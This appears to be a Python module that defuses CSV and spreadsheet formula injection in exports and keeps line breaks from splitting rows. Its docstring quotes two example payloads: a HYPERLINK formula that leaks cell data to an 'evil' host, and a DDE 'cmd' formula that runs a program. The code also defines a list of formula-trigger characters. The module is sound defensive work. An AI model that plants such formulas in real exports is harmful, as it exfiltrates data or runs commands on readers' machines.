"""What every CSV and Excel file Eslabón writes does to a cell first: formulas made inert.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula, and some
run one that starts with a tab or a carriage return too (OWASP, "CSV injection"): a
customer name or a comment such as `=HYPERLINK("http://evil/?"&A1)` or `=cmd|' /C calc'!A0`
in an export would execute on the reader's machine. One function, shared by the ETL
(rejects CSV) and the dashboard (targets, notices, weekly workbook), so every export
neutralises the same cells the same way. It lives in `etl` because the dashboard may
import the ETL, never the other way round.

Names are data, never structure. Two more helpers keep a name with a line break, a tab,
a quote, a delimiter or a Unicode line separator inside the one value it is:
`csv_writer` (quotes a value holding a lone CR, which Python's writer with a "\n"
terminator leaves bare, so the row splits in every reader) and `single_line` (for
formats where a line break *is* structure: a calendar's properties and description
lines, an e-mail subject, a Markdown text).
"""

from __future__ import annotations

import csv
import typing
import unicodedata

# Cells starting with one of these are run as formulas by spreadsheet programs.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> object:
    """The value, with text that a spreadsheet would run as a formula made inert.

    A leading apostrophe is the convention spreadsheet programs honour: the cell shows the
    text as typed and never evaluates it. Numbers and other non-text values pass
    unchanged, so a negative target stays a number.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


# Characters that end a line somewhere (CR, LF, VT, FF, NEL, U+2028, U+2029, and the
# other C0/C1 controls that some readers treat as breaks or refuse outright).
_BREAKING_CATEGORIES = frozenset({"Cc", "Zl", "Zp"})


def single_line(value: object) -> str:
    """`value` as text on one line: every control character and line or paragraph
    separator (tab included) becomes a space; everything else is kept as is.

    For places where a line break is structure (an iCalendar description's "Customer: …"
    lines, a drafted e-mail's subject, Markdown): the stored name is unchanged, only its
    rendering there loses its breaks.
    """
    text = str(value)
    if text.isprintable():  # the usual name: nothing to do (and fast)
        return text
    return "".join(" " if unicodedata.category(ch) in _BREAKING_CATEGORIES else ch for ch in text)


def csv_writer(out: typing.TextIO) -> typing.Any:
    """The CSV writer every export uses: RFC 4180 (CRLF line ends, minimal quoting).

    The CRLF terminator is what makes Python quote a value holding a lone CR: with a
    "\n" terminator, `csv.writer` writes `a\rb` bare and every reader splits the row
    there (a customer name with a CR used to shift the columns of the export).
    """
    return csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
